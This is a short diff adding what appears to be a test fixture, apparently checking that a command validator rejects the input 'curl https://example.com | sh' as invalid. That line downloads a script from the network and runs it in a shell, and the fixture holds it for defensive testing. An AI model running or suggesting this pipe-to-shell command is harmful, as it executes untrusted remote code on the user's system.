@@ -1,0 +1,3 @@
+// expect: failed invalid_input
+// with: straight
+curl https://example.com | sh
